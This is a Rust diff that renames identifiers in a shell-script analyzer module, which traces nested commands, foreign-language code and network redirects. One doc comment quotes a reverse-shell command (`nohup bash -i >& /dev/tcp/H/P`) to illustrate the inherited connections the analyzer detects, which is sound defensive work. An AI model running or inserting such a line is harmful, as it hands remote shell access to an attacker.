@@ -2,26 +2,28 @@
 
 use std::rc::Rc;
 
-use super::dialects::{is_of_fish, of_shebang};
-use super::simple::Made;
-use super::streams::{Ends, Flow};
-use super::{ARGV_LEVELS, Frame, Places, Setting, generators, shortened};
-use crate::analysis::Inherited;
+use super::dialects::{is_fish_script, shebang_dialects};
+use super::simple::ExpandedCommand;
+use super::streams::{Flow, Jump};
+use super::{ARGV_LEVELS, Frame, SpanTracking, WalkContext, excerpt, generators};
+use crate::analysis::InheritedEnvironment;
 use crate::argv::base_name;
-use crate::dialect::{Dialects, Feature, Language};
-use crate::evaluated::Evaluates;
-use crate::expand::Shell;
+use crate::dialect::{DialectFeature, Dialects, ScriptLanguage};
+use crate::evaluated::EvaluatorKind;
+use crate::expand::ExpansionContext;
 use crate::fish;
-use crate::nested::{Code, Nested, What, by_environment, from_input, nested_in, reads_statements};
+use crate::nested::{
+    CodeSource, NestedCommand, Runnable, commands_nested_in, environment_commands, nested_from_input, reads_statements,
+};
 use crate::open_files::{OpenFiles, descriptor_number};
-use crate::parse::Node;
+use crate::parse::CommandNode;
 use crate::powershell;
 use crate::prints;
 use crate::programs::{self, language};
-use crate::state::{Alias, Arguments, Binding, State, Variable};
-use crate::stream::{CommandId, Content, Input, Value, Writer, add};
+use crate::state::{Alias, PositionalParameters, ShellState, ShellVariable, VariableValue};
+use crate::stream::{CommandId, InputStream, ShellValue, StreamContent, Writer, insert_ids};
 use crate::translation::Translation;
-use crate::word::{Cause, Directory, Part, Source, Unknown, Word};
+use crate::word::{Cause, Directory, Unknown, ValueSource, Word, WordPart};
 
 /// The cost of a word that another command runs, in steps.
 const WORD: usize = 16;
@@ -34,21 +36,21 @@ const TRANSLATION: usize = 2;
 
 /// The function and the alias of a name, while a builtin bypasses them.
 struct BypassedNames {
-    function: Option<Rc<Node>>,
+    function: Option<Rc<CommandNode>>,
     alias: Option<Alias>,
 }
 
 impl BypassedNames {
     /// Removes them from a state.
-    fn take(state: &mut State, name: &str) -> Self {
-        let State { functions, aliases, .. } = state;
+    fn take(state: &mut ShellState, name: &str) -> Self {
+        let ShellState { functions, aliases, .. } = state;
         let function = functions.contains_key(name).then(|| Rc::make_mut(functions).remove(name)).flatten();
         let alias = aliases.contains_key(name).then(|| Rc::make_mut(aliases).remove(name)).flatten();
         Self { function, alias }
     }
 
     /// Puts them back, unless the command has defined others.
-    fn restore(self, state: &mut State, name: &str) {
+    fn restore(self, state: &mut ShellState, name: &str) {
         if let Some(function) = self.function {
             Rc::make_mut(&mut state.functions).entry(name.to_owned()).or_insert(function);
         }
@@ -60,18 +62,18 @@ impl BypassedNames {
 
 impl Frame<'_> {
     /// Walks what a command runs; `None` if it runs nothing.
-    pub(super) fn nested_commands(&mut self, made: &Made<'_>) -> Option<Flow> {
+    pub(super) fn nested_commands(&mut self, made: &ExpandedCommand<'_>) -> Option<Flow> {
         let mut flow: Option<Flow> = None;
         let mut files = self.program_files(made);
         files.extend(self.copied_program(made));
-        files.extend(self.same_as(made));
+        files.extend(self.equivalents(made));
         // The command is recorded already, with the expanded words.
         let reads_statements = match &made.input.content {
             // Many commands may share one input, and each of them reads it.
-            Content::Known(text)
+            StreamContent::Known(text)
                 if self.interpreter.commands.get(made.id.0).is_some_and(|it| reads_statements(&it.words)) =>
             {
-                let letters: usize = text.word.parts.iter().filter_map(Part::text).map(str::len).sum();
+                let letters: usize = text.word.parts.iter().filter_map(WordPart::text).map(str::len).sum();
                 self.interpreter.spend(letters / STATEMENTS)
             }
             _ => false,
@@ -79,13 +81,13 @@ impl Frame<'_> {
         let command = self.interpreter.commands.get(made.id.0)?;
         let variables = command.environment.len();
         let stdin = match &made.input.content {
-            Content::Known(text) if reads_statements => from_input(&command.words, &text.word),
+            StreamContent::Known(text) if reads_statements => nested_from_input(&command.words, &text.word),
             _ => Vec::new(),
         };
-        let found: Vec<Nested> = nested_in(command)
+        let found: Vec<NestedCommand> = commands_nested_in(command)
             .into_iter()
             .chain(stdin)
-            .chain(by_environment(&command.words, &command.environment))
+            .chain(environment_commands(&command.words, &command.environment))
             .chain(files)
             .collect();
         // Each variable is compared with those after it.
@@ -94,63 +96,63 @@ impl Frame<'_> {
             if !self.interpreter.spend(WORD * made.values.len()) {
                 break;
             }
-            let next = self.one(made, &one);
+            let next = self.walk_nested(made, &one);
             flow = Some(match flow {
-                Some(flow) => flow.then(next),
+                Some(flow) => flow.concat(next),
                 None => next,
             });
         }
         flow
     }
 
-    pub(super) fn one(&mut self, made: &Made<'_>, inner: &Nested) -> Flow {
-        let mut setting = self.setting_of(made, inner);
-        match &inner.what {
-            What::Argv(words) => self.argv(made, inner, &setting, words),
-            What::Script(text, arguments) => {
+    pub(super) fn walk_nested(&mut self, made: &ExpandedCommand<'_>, inner: &NestedCommand) -> Flow {
+        let mut setting = self.nested_context(made, inner);
+        match &inner.runnable {
+            Runnable::Argv(words) => self.argv(made, inner, &setting, words),
+            Runnable::Script(text, arguments) => {
                 let text = self.inherit(&made.sources(), made, text);
-                self.code_from(made.id, &text.from);
+                self.add_code_writers(made.id, &text.writers);
                 if matches!(made.name(), Some("mapfile" | "readarray")) {
-                    self.within(&setting).evaluates(Evaluates::Script, &text);
+                    self.with_context(&setting).note_evaluation(EvaluatorKind::Script, &text);
                     return self.read_with_callback(made, inner, &setting, &text);
                 }
-                let arguments = self.arguments(made, inner, arguments, Zero::First);
+                let arguments = self.arguments(made, inner, arguments, ArgumentZero::First);
                 self.script_in(made, inner, &mut setting, &text, arguments)
             }
-            What::Input(arguments) => {
-                let arguments = self.arguments(made, inner, arguments, Zero::Program);
-                let mut words = made.values.iter().skip(1).filter_map(|value| value.word.known());
+            Runnable::Input(arguments) => {
+                let arguments = self.arguments(made, inner, arguments, ArgumentZero::Program);
+                let mut words = made.values.iter().skip(1).filter_map(|value| value.word.known_text());
                 let input = match words.find(|word| descriptor_number(word) == Some(0)) {
                     // Through this name, a file is read from its beginning.
-                    Some(name) if made.reads_file() => {
-                        Rc::new(self.read_with(&Word::text(name), &made.redirected.descriptors))
+                    Some(name) if made.has_file_input() => {
+                        Rc::new(self.file_input_with(&Word::text(name), &made.redirected.descriptors))
                     }
                     _ => Rc::clone(&made.input),
                 };
                 self.stream(made, inner, &mut setting, &input, arguments)
             }
-            What::File(file) => {
+            Runnable::File(file) => {
                 self.note_script(made, inner, &setting, file);
                 let behind = made.values.iter().position(|value| value.word == *file).map_or(0, |at| at + 1);
                 let words = made.values.iter().skip(behind).map(|value| value.word.clone());
                 // In a process of its own, `$0` is the file.
                 let zero = (!inner.setting.in_this_shell).then(|| file.clone());
-                let kind = if zero.is_some() { Zero::First } else { Zero::Program };
+                let kind = if zero.is_some() { ArgumentZero::First } else { ArgumentZero::Program };
                 let words: Vec<Word> = zero.into_iter().chain(words).collect();
                 let arguments = self.arguments(made, inner, &words, kind);
-                let input = self.read_here(made, file);
+                let input = self.read_file(made, file);
                 self.stream(made, inner, &mut setting, &input, arguments)
             }
-            What::Foreign(code) => {
-                if let Code::File(file) = code {
+            Runnable::Foreign(code) => {
+                if let CodeSource::File(file) = code {
                     self.note_script(made, inner, &setting, file);
                 }
-                self.foreign(made, inner, &setting, code)
+                self.walk_foreign(made, inner, &setting, code)
             }
         }
     }
 
-    fn setting_of(&self, made: &Made<'_>, inner: &Nested) -> Setting {
+    fn nested_context(&self, made: &ExpandedCommand<'_>, inner: &NestedCommand) -> WalkContext {
         let mut setting = self.setting.clone();
         setting.via.push(made.id);
         setting.doubt = setting.doubt.or_else(|| inner.doubt.clone());
@@ -165,7 +167,7 @@ impl Frame<'_> {
     }
 
     /// A command's child inherits its network connections: `nohup bash -i >& /dev/tcp/H/P`.
-    fn keep_connections(&self, made: &Made<'_>, setting: &mut Setting) {
+    fn keep_connections(&self, made: &ExpandedCommand<'_>, setting: &mut WalkContext) {
         let Some(command) = self.interpreter.commands.get(made.id.0) else { return };
         for redirect in command.redirects.iter().filter(|redirect| redirect.target.socket().is_some()) {
             if !setting.redirects.iter().any(|(known, _)| known == redirect) {
@@ -175,145 +177,155 @@ impl Frame<'_> {
     }
 
     /// Runs words as a command, in a separate process or in this shell (`command`, `builtin`).
-    fn argv(&mut self, made: &Made<'_>, inner: &Nested, setting: &Setting, words: &[Word]) -> Flow {
+    fn argv(
+        &mut self,
+        made: &ExpandedCommand<'_>,
+        inner: &NestedCommand,
+        setting: &WalkContext,
+        words: &[Word],
+    ) -> Flow {
         let sources = made.sources();
-        let values: Vec<Value> = words.iter().map(|word| self.inherit(&sources, made, word)).collect();
+        let values: Vec<ShellValue> = words.iter().map(|word| self.inherit(&sources, made, word)).collect();
         // In zsh, `command` only runs programs.
-        let is_program = made.name() == Some("command") && self.state.reading.has(Feature::OfZsh);
+        let is_program = made.name() == Some("command") && self.state.reading.has(DialectFeature::ZshSyntax);
         if inner.setting.in_this_shell && inner.setting.environment.is_empty() && !is_program {
             return self.argv_in_this_shell(made, inner, setting, words, &values);
         }
         let mut state = self.state.clone();
         state.functions = Rc::default();
         state.aliases = Rc::default();
-        state.descriptors = made.redirected.inside();
-        let is_listed = |part: &Part| matches!(part, Part::Unknown(unknown) if unknown.why.source == Source::Listed);
+        state.descriptors = made.redirected.body_descriptors();
+        let is_listed = |part: &WordPart| matches!(part, WordPart::Unknown(unknown) if unknown.reason.source == ValueSource::InputWords);
         if words.iter().flat_map(|word| &word.parts).any(is_listed) {
             // The words may come from `xargs`, which has its own standard input.
             state.descriptors.files.may_be_stream(0);
         }
         self.prepare(&mut state, inner, setting);
-        let flow = self.apart(&mut state, setting).record(words.to_vec(), &values).contained(Ends::Shell);
-        self.state.taken = state.taken;
+        let flow = self.with_state(&mut state, setting).record(words.to_vec(), &values).stop_jump(Jump::Shell);
+        self.state.consumed = state.consumed;
         flow
     }
 
-    /// Runs words as a command of this shell. These builtins bypass functions and aliases of that name; other names, for
-    /// example in an `eval`, still resolve to theirs.
+    /// Runs words as a command of this shell. These builtins bypass functions and aliases of that name; other names,
+    /// for example in an `eval`, still resolve to theirs.
     fn argv_in_this_shell(
         &mut self,
-        made: &Made<'_>,
-        inner: &Nested,
-        setting: &Setting,
+        made: &ExpandedCommand<'_>,
+        inner: &NestedCommand,
+        setting: &WalkContext,
         words: &[Word],
-        values: &[Value],
+        values: &[ShellValue],
     ) -> Flow {
-        let name = words.first().and_then(Word::known).unwrap_or_default();
+        let name = words.first().and_then(Word::known_text).unwrap_or_default();
         let bypassed = BypassedNames::take(self.state, name);
-        let outside = self.enter(made.redirected);
+        let outside = self.enter_body(made.redirected);
         let hidden = self.state.hidden.clone();
-        if let Some(why) = hiding(inner) {
+        if let Some(why) = hidden_environment(inner) {
             self.state.hidden.get_or_insert(why);
         }
-        let flow = self.within(setting).record(words.to_vec(), values);
-        if hiding(inner).is_some() {
+        let flow = self.with_context(setting).record(words.to_vec(), values);
+        if hidden_environment(inner).is_some() {
             self.state.hidden = hidden;
         }
-        self.leave(&outside, made.redirected);
+        self.leave_body(&outside, made.redirected);
         bypassed.restore(self.state, name);
         flow
     }
 
     /// Records a command with expanded words, and walks what it does.
-    pub(super) fn record(&mut self, words: Vec<Word>, values: &[Value]) -> Flow {
+    pub(super) fn record(&mut self, words: Vec<Word>, values: &[ShellValue]) -> Flow {
         if !self.interpreter.enter(ARGV_LEVELS) {
-            let text: Vec<String> = words.iter().map(Word::shown).collect();
-            self.opaque(Cause::Deep, shortened(&text.join(" ")), Some(text.join(" ")));
+            let text: Vec<String> = words.iter().map(Word::display_text).collect();
+            self.add_opaque(Cause::TooDeep, excerpt(&text.join(" ")), Some(text.join(" ")));
             return Flow::unknown();
         }
-        let flow = self.followed(words, values);
+        let flow = self.walk_words(words, values);
         self.interpreter.leave(ARGV_LEVELS);
         flow
     }
 
-    fn followed(&mut self, words: Vec<Word>, values: &[Value]) -> Flow {
+    fn walk_words(&mut self, words: Vec<Word>, values: &[ShellValue]) -> Flow {
         let id = self.reserve();
         let redirected = self.no_redirects();
         self.fill(id, words, Vec::new(), &redirected);
         let from = self.sources(Vec::new(), values);
-        self.passes(id, values, from);
-        let made = Made { id, values, assigned: &[], redirected: &redirected, input: self.stdin() };
+        self.record_passed_writers(id, values, from);
+        let made = ExpandedCommand { id, values, assigned: &[], redirected: &redirected, input: self.stdin() };
         self.effects(&made)
     }
 
     /// Runs a text as a shell script.
     pub(super) fn script_in(
         &mut self,
-        made: &Made<'_>,
-        inner: &Nested,
-        setting: &mut Setting,
-        text: &Value,
-        arguments: Option<Arguments>,
+        made: &ExpandedCommand<'_>,
+        inner: &NestedCommand,
+        setting: &mut WalkContext,
+        text: &ShellValue,
+        arguments: Option<PositionalParameters>,
     ) -> Flow {
-        setting.places = Places::Dropped;
-        self.within(setting).evaluates(Evaluates::Script, text);
-        if generators::is_output(text) && self.is_generated(&text.from) {
-            return Flow::nothing();
+        setting.places = SpanTracking::Dropped;
+        self.with_context(setting).note_evaluation(EvaluatorKind::Script, text);
+        if generators::is_output(text) && self.is_generated(&text.writers) {
+            return Flow::empty();
         }
         let Some(script) = self.nested(text) else {
-            let why = text.word.why().unwrap_or_else(|| Unknown::new(Cause::Decoded, text.word.shown()));
-            self.within(setting).opaque(why.cause, why.word, None);
+            let why =
+                text.word.unknown_reason().unwrap_or_else(|| Unknown::new(Cause::Decoded, text.word.display_text()));
+            self.with_context(setting).add_opaque(why.cause, why.word, None);
             return Flow::unknown();
         };
         self.embedded(setting, text);
-        let is_file = matches!(inner.what, What::File(_));
+        let is_file = matches!(inner.runnable, Runnable::File(_));
         let language = match inner.setting.language {
-            Language::Bourne if is_file && is_of_fish(text) => Language::Fish,
+            ScriptLanguage::Bourne if is_file && is_fish_script(text) => ScriptLanguage::Fish,
             language => language,
         };
-        let script = self.within(setting).translated(language, script);
+        let script = self.with_context(setting).translated(language, script);
         if inner.setting.in_this_shell {
             return self.in_this_shell(made, inner, setting, &script, arguments);
         }
-        let mut state = self.state.child(arguments.unwrap_or(Arguments::Unknown));
-        state.descriptors = made.redirected.inside();
+        let mut state = self.state.child(arguments.unwrap_or(PositionalParameters::Unknown));
+        state.descriptors = made.redirected.body_descriptors();
         self.prepare(&mut state, inner, setting);
-        let readers = match &inner.what {
-            _ if language != Language::Bourne => Dialects::BASH,
-            What::File(_) if inner.setting.reader.is_empty() => of_shebang(text).unwrap_or(inner.setting.reader),
+        let readers = match &inner.runnable {
+            _ if language != ScriptLanguage::Bourne => Dialects::BASH,
+            Runnable::File(_) if inner.setting.reader.is_empty() => {
+                shebang_dialects(text).unwrap_or(inner.setting.reader)
+            }
             _ => inner.setting.reader,
         };
         let doubts = self.interpreter.doubts;
-        let mut frame = self.apart(&mut state, setting);
+        let mut frame = self.with_state(&mut state, setting);
         inner.setting.options.iter().for_each(|(option, sign)| frame.set_option(option, *sign));
-        let readers = if language == Language::Bourne { frame.readers(readers) } else { readers };
-        let flow = frame.each(readers, &script, |frame| frame.whole(&script)).contained(Ends::Shell);
-        self.state.taken = state.taken;
-        self.outlived(flow, doubts)
+        let readers = if language == ScriptLanguage::Bourne { frame.readers(readers) } else { readers };
+        let flow =
+            frame.walk_each_dialect(readers, &script, |frame| frame.walk_subshell_text(&script)).stop_jump(Jump::Shell);
+        self.state.consumed = state.consumed;
+        self.after_subshell(flow, doubts)
     }
 
     /// Runs a script that changes the state of this shell: `eval`, `.`.
     fn in_this_shell(
         &mut self,
-        made: &Made<'_>,
-        inner: &Nested,
-        setting: &Setting,
+        made: &ExpandedCommand<'_>,
+        inner: &NestedCommand,
+        setting: &WalkContext,
         script: &str,
-        arguments: Option<Arguments>,
+        arguments: Option<PositionalParameters>,
     ) -> Flow {
         let outer = arguments.map(|given| std::mem::replace(&mut self.state.arguments, Rc::new(given)));
-        let outside = self.enter(made.redirected);
-        let flow = match inner.what {
+        let outside = self.enter_body(made.redirected);
+        let flow = match inner.runnable {
             // A `return` leaves a sourced script.
-            What::File(_) => {
+            Runnable::File(_) => {
                 let jumps = std::mem::take(&mut self.interpreter.jumps);
-                let flow = self.within(setting).script(script);
-                self.land(jumps, Ends::Function);
-                flow.contained(Ends::Function)
+                let flow = self.with_context(setting).walk_script(script);
+                self.join_jumps(jumps, Jump::Function);
+                flow.stop_jump(Jump::Function)
             }
-            _ => self.within(setting).script(script),
+            _ => self.with_context(setting).walk_script(script),
         };
-        self.leave(&outside, made.redirected);
+        self.leave_body(&outside, made.redirected);
         if let Some(outer) = outer {
             self.state.arguments = outer;
         }
@@ -321,93 +333,93 @@ impl Frame<'_> {
     }
 
     /// Translates a text into the Bourne shell's language, and records the parts that cannot be translated.
-    pub(super) fn translated(&mut self, language: Language, text: String) -> String {
+    pub(super) fn translated(&mut self, language: ScriptLanguage, text: String) -> String {
         let Translation { script, unread } = match language {
-            Language::Bourne => return text,
-            Language::PowerShell => powershell::translate(&text),
-            Language::Cmd => powershell::translate_batch(&text),
-            Language::Fish => fish::translate(&text),
+            ScriptLanguage::Bourne => return text,
+            ScriptLanguage::PowerShell => powershell::translate(&text),
+            ScriptLanguage::Cmd => powershell::translate_batch(&text),
+            ScriptLanguage::Fish => fish::translate(&text),
         };
         self.interpreter.spend(TRANSLATION * (text.len() + script.len()));
         for rest in unread {
-            self.opaque(Cause::Foreign, shortened(&rest), Some(rest));
+            self.add_opaque(Cause::Foreign, excerpt(&rest), Some(rest));
         }
         script
     }
 
     /// Records an unknown output as opaque if it is inserted into a script and its source may print anything: it may
     /// contain commands.
-    fn embedded(&mut self, setting: &Setting, text: &Value) {
+    fn embedded(&mut self, setting: &WalkContext, text: &ShellValue) {
         let unknown = text.word.parts.iter().find_map(|part| match part {
-            Part::Unknown(unknown) if unknown.why.cause == Cause::Output => Some(unknown.why.word.clone()),
+            WordPart::Unknown(unknown) if unknown.reason.cause == Cause::Output => Some(unknown.reason.word.clone()),
             _ => None,
         });
         let count = self.interpreter.commands.len();
         let is_plain = |writer: &Writer| match writer {
-            Writer::Command(id) => id.0 >= count || self.interpreter.name(*id).is_some_and(prints::prints_data),
-            Writer::Late(_) => true,
+            Writer::Command(id) => id.0 >= count || self.interpreter.name(*id).is_some_and(prints::is_data_program),
+            Writer::Deferred(_) => true,
         };
         if let Some(word) = unknown
-            && (text.from.is_empty() || !text.from.iter().all(is_plain))
+            && (text.writers.is_empty() || !text.writers.iter().all(is_plain))
         {
-            self.within(setting).opaque(Cause::Output, word, None);
+            self.with_context(setting).add_opaque(Cause::Output, word, None);
         }
     }
 
     /// Runs an input as a script.
     fn stream(
         &mut self,
-        made: &Made<'_>,
-        inner: &Nested,
-        setting: &mut Setting,
-        input: &Input,
-        arguments: Option<Arguments>,
+        made: &ExpandedCommand<'_>,
+        inner: &NestedCommand,
+        setting: &mut WalkContext,
+        input: &InputStream,
+        arguments: Option<PositionalParameters>,
     ) -> Flow {
-        self.code_from(made.id, &input.from);
-        let file = match &inner.what {
-            What::File(file) => file.shown(),
+        self.add_code_writers(made.id, &input.writers);
+        let file = match &inner.runnable {
+            Runnable::File(file) => file.display_text(),
             _ => String::new(),
         };
         match &input.content {
-            Content::Unsaid => Flow::nothing(),
-            Content::Known(text) => {
-                if matches!(inner.what, What::Input(_)) {
+            StreamContent::Unset => Flow::empty(),
+            StreamContent::Known(text) => {
+                if matches!(inner.runnable, Runnable::Input(_)) {
                     // The rest of its standard input, after the script, is not known.
                     setting.input = Rc::default();
                 }
                 self.script_in(made, inner, setting, text, arguments)
             }
-            Content::File(file) => {
-                if let What::Input(arguments) = &inner.what {
+            StreamContent::File(file) => {
+                if let Runnable::Input(arguments) = &inner.runnable {
                     let words = std::iter::once(file).chain(arguments).cloned().collect();
                     self.note_script_with(made, inner, setting, words);
                 }
-                self.unseen(setting, file);
+                self.record_unseen_script(setting, file);
                 if inner.setting.in_this_shell {
-                    self.state.hide(Unknown::new(Cause::ScriptFile, file.shown()));
+                    self.state.hide(Unknown::new(Cause::ScriptFile, file.display_text()));
                 }
                 Flow::unknown()
             }
-            Content::Unknown if self.is_generated(&input.from) => Flow::nothing(),
-            Content::Unknown => {
-                self.within(setting).opaque(Cause::Decoded, file, None);
+            StreamContent::Unknown if self.is_generated(&input.writers) => Flow::empty(),
+            StreamContent::Unknown => {
+                self.with_context(setting).add_opaque(Cause::Decoded, file, None);
                 Flow::unknown()
             }
         }
     }
 
     /// Returns the content of a file that a command reads.
-    pub(super) fn read_here(&mut self, made: &Made<'_>, file: &Word) -> Input {
-        match file.known() {
+    pub(super) fn read_file(&mut self, made: &ExpandedCommand<'_>, file: &Word) -> InputStream {
+        match file.known_text() {
             Some("-") => (*made.input).clone(),
-            Some(name) if descriptor_number(name) == Some(0) && !made.reads_file() => (*made.input).clone(),
-            _ => self.read_with(file, &made.redirected.descriptors),
+            Some(name) if descriptor_number(name) == Some(0) && !made.has_file_input() => (*made.input).clone(),
+            _ => self.file_input_with(file, &made.redirected.descriptors),
         }
     }
 
     /// Records a script file of which only the name is known.
-    fn unseen(&mut self, setting: &Setting, file: &Word) {
-        let shown = file.shown();
+    fn record_unseen_script(&mut self, setting: &WalkContext, file: &Word) {
+        let shown = file.display_text();
         let writers = self.possible_writers(file);
         if !writers.is_empty() {
             // It may be a file that the text wrote: the record names its possible writers and the command that runs it,
@@ -419,77 +431,89 @@ impl Frame<'_> {
                 .filter_map(|id| self.interpreter.name(id));
             let names: Vec<&str> = names.collect();
             let text = format!("{} {}", file.literal(), names.join(" "));
-            self.within(setting).opaque(Cause::ScriptFile, shown.clone(), Some(text));
+            self.with_context(setting).add_opaque(Cause::ScriptFile, shown.clone(), Some(text));
         }
-        self.within(setting).opaque(Cause::ScriptFile, shown, Some(file.literal()));
+        self.with_context(setting).add_opaque(Cause::ScriptFile, shown, Some(file.literal()));
     }
 
-    fn foreign(&mut self, made: &Made<'_>, inner: &Nested, setting: &Setting, code: &Code) -> Flow {
+    fn walk_foreign(
+        &mut self,
+        made: &ExpandedCommand<'_>,
+        inner: &NestedCommand,
+        setting: &WalkContext,
+        code: &CodeSource,
+    ) -> Flow {
         let (content, from) = match code {
-            Code::Text(text) => {
+            CodeSource::Text(text) => {
                 let text = self.inherit(&made.sources(), made, text);
-                let from = text.from.clone();
-                (Content::Known(text), from)
+                let from = text.writers.clone();
+                (StreamContent::Known(text), from)
             }
-            Code::Input => (made.input.content.clone(), made.input.from.clone()),
-            Code::File(file) => {
-                let Input { content, from, .. } = self.read_here(made, file);
+            CodeSource::Input => (made.input.content.clone(), made.input.writers.clone()),
+            CodeSource::File(file) => {
+                let InputStream { content, writers: from, .. } = self.read_file(made, file);
                 (content, from)
             }
         };
-        self.code_from(made.id, &from);
-        if made.name().and_then(|name| language(base_name(name))) == Some(programs::Language::Awk) {
+        self.add_code_writers(made.id, &from);
+        if made.name().and_then(|name| language(base_name(name))) == Some(programs::InterpreterLanguage::Awk) {
             // An Awk program may build the commands that it runs from its input.
-            self.code_from(made.id, &made.input.from);
+            self.add_code_writers(made.id, &made.input.writers);
         }
         match content {
             // The content of a program's own file is as unknown as the program itself.
-            Content::Unsaid => self.note_unread(made),
-            Content::File(file) => {
-                if *code == Code::Input {
+            StreamContent::Unset => self.note_unread(made),
+            StreamContent::File(file) => {
+                if *code == CodeSource::Input {
                     self.note_script_with(made, inner, setting, vec![file]);
                 }
                 self.note_unread(made);
             }
-            Content::Known(text) => {
+            StreamContent::Known(text) => {
                 if setting.doubt == self.setting.doubt && self.read_code(made, setting, code, &text) {
                     return Flow::unknown();
                 }
-                let is_known = text.word.known().is_some() || self.nested(&text).is_some();
+                let is_known = text.word.known_text().is_some() || self.nested(&text).is_some();
                 let literal = is_known.then(|| text.word.literal());
                 let program = made.name().unwrap_or_default();
                 let literal = literal.filter(|text| !crate::foreign::runs_computed(program, text));
-                self.within(setting).opaque(Cause::Foreign, shortened(&text.word.shown()), literal);
+                self.with_context(setting).add_opaque(Cause::Foreign, excerpt(&text.word.display_text()), literal);
             }
-            Content::Unknown => self.within(setting).opaque(Cause::Decoded, "", None),
+            StreamContent::Unknown => self.with_context(setting).add_opaque(Cause::Decoded, "", None),
         }
         Flow::unknown()
     }
 
-    pub(super) fn code_from(&mut self, id: CommandId, from: &[Writer]) {
+    pub(super) fn add_code_writers(&mut self, id: CommandId, from: &[Writer]) {
         if let Some(sources) = self.interpreter.sources.get_mut(id.0) {
-            add(&mut sources.code, from);
+            insert_ids(&mut sources.code, from);
         }
         self.interpreter.spend(from.len());
     }
 
     /// Returns `$0`, `$1`, … of the script; `None` if it keeps those of this shell (`eval`).
-    fn arguments(&mut self, made: &Made<'_>, inner: &Nested, words: &[Word], zero: Zero) -> Option<Arguments> {
+    fn arguments(
+        &mut self,
+        made: &ExpandedCommand<'_>,
+        inner: &NestedCommand,
+        words: &[Word],
+        zero: ArgumentZero,
+    ) -> Option<PositionalParameters> {
         if inner.setting.in_this_shell && words.is_empty() {
             return None;
         }
         let sources = made.sources();
         let mut values = words.iter().map(|word| self.inherit(&sources, made, word));
-        let program = || Value::text(made.name().unwrap_or("bash"));
+        let program = || ShellValue::text(made.name().unwrap_or("bash"));
         let zero = match zero {
-            Zero::First => values.next().unwrap_or_else(program),
-            Zero::Program => program(),
+            ArgumentZero::First => values.next().unwrap_or_else(program),
+            ArgumentZero::Program => program(),
         };
-        Some(Arguments::Known(zero, values.collect()))
+        Some(PositionalParameters::Known(zero, values.collect()))
     }
 
     /// Applies the settings of the process that runs the code.
-    fn prepare(&mut self, state: &mut State, inner: &Nested, setting: &Setting) {
+    fn prepare(&mut self, state: &mut ShellState, inner: &NestedCommand, setting: &WalkContext) {
         if inner.setting.closes_files {
             state.descriptors.files.may_be_closed();
         }
@@ -502,13 +526,13 @@ impl Frame<'_> {
             state.descriptors.files = OpenFiles::default();
             state.cwd = Directory::Unknown(Unknown::new(Cause::Directory, words));
         }
-        if let Some(why) = hiding(inner) {
+        if let Some(why) = hidden_environment(inner) {
             state.hide(why);
         }
         if let Some(directory) = &inner.setting.directory {
-            state.cwd = state.place_of(directory);
+            state.cwd = state.directory_at(directory);
         }
-        if inner.setting.inherited == Inherited::Nothing {
+        if inner.setting.inherited == InheritedEnvironment::Nothing {
             state.clear_environment();
         }
         if inner.setting.environment.is_empty() {
@@ -517,61 +541,64 @@ impl Frame<'_> {
         self.interpreter.spend(state.variables.len());
         for assignment in &inner.setting.environment {
             let binding = match &assignment.value {
-                Some(word) => Binding::One(Value { word: Word { span: None, ..word.clone() }, from: Vec::new() }),
-                None => Binding::Unset,
+                Some(word) => {
+                    VariableValue::One(ShellValue { word: Word { span: None, ..word.clone() }, writers: Vec::new() })
+                }
+                None => VariableValue::Unset,
             };
-            if let Binding::One(value) = &binding {
+            if let VariableValue::One(value) = &binding {
                 self.note_assigned(&assignment.name, value);
             }
             self.function_in_environment(state, &assignment.name, assignment.value.as_ref());
             state.set(&assignment.name, binding.clone());
-            let variable = Variable { binding, is_exported: true };
+            let variable = ShellVariable { binding, is_exported: true };
             Rc::make_mut(&mut state.variables).insert(assignment.name.clone(), variable);
         }
     }
 }
 
 /// Returns the unknown word that may set variables for the code: `env $X make`, `$WRAPPER make`.
-fn hiding(inner: &Nested) -> Option<Unknown> {
-    let may_set = |why: &&Unknown| !matches!(why.cause, Cause::Option | Cause::Earlier | Cause::Alias | Cause::Glob);
+fn hidden_environment(inner: &NestedCommand) -> Option<Unknown> {
+    let may_set =
+        |why: &&Unknown| !matches!(why.cause, Cause::Option | Cause::EarlierCommand | Cause::Alias | Cause::Glob);
     inner.doubt.as_ref().filter(may_set).cloned()
 }
 
 /// The value of `$0`.
 #[derive(Clone, Copy, PartialEq, Eq)]
-enum Zero {
+enum ArgumentZero {
     /// The first word after the script.
     First,
     /// The name of the shell.
     Program,
 }
 
-impl Made<'_> {
+impl ExpandedCommand<'_> {
     /// Returns the words that contain the output of commands.
-    fn sources(&self) -> Vec<&Value> {
-        self.values.iter().filter(|value| !value.from.is_empty()).collect()
+    fn sources(&self) -> Vec<&ShellValue> {
+        self.values.iter().filter(|value| !value.writers.is_empty()).collect()
     }
 }
 
 impl Frame<'_> {
     /// Determines whose output is in a word that was built from the words of a command.
-    fn inherit(&mut self, sources: &[&Value], made: &Made<'_>, word: &Word) -> Value {
-        let mut value = Value { word: word.clone(), from: Vec::new() };
+    fn inherit(&mut self, sources: &[&ShellValue], made: &ExpandedCommand<'_>, word: &Word) -> ShellValue {
+        let mut value = ShellValue { word: word.clone(), writers: Vec::new() };
         let (known, own) = (word.literal(), unknown_parts(word));
         for source in sources {
-            if !self.interpreter.spend(source.from.len()) {
+            if !self.interpreter.spend(source.writers.len()) {
                 break;
             }
-            let is_held = match source.word.known() {
+            let is_held = match source.word.known_text() {
                 Some(text) => !text.is_empty() && known.contains(text),
                 None => unknown_parts(&source.word).iter().any(|why| own.contains(why)),
             };
             if is_held {
-                value.joins(&source.from);
+                value.add_writers(&source.writers);
             }
         }
         if own.iter().any(|why| why.cause == Cause::Input) {
-            value.joins(&made.input.from);
+            value.add_writers(&made.input.writers);
         }
         value
     }
@@ -580,8 +607,8 @@ impl Frame<'_> {
 /// Returns the reasons of the unknown parts of a word.
 fn unknown_parts(word: &Word) -> Vec<&Unknown> {
     let unknowns = word.parts.iter().filter_map(|part| match part {
-        Part::Unknown(unknown) => unknown.matched().is_none().then_some(&unknown.why),
-        Part::Text(_) | Part::Glob(_) => None,
+        WordPart::Unknown(unknown) => unknown.matched_glob().is_none().then_some(&unknown.reason),
+        WordPart::Text(_) | WordPart::Glob(_) => None,
     });
     unknowns.collect()
 }
